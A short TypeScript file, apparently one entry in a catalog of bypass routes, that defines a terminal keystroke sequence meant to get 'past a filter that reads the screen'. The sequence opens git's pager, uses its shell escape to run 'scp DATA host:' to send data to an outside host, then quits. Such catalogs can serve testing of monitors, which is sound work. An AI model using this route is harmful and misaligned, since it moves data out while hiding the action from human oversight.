import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'from a pager of git',
  source: 'terminal routes past a filter that reads the screen',
  keys: ['env -u PAGER -u GIT_PAGER git -p log\r', '!scp DATA host:\r\r', 'q'],
  isRaw: true,
};
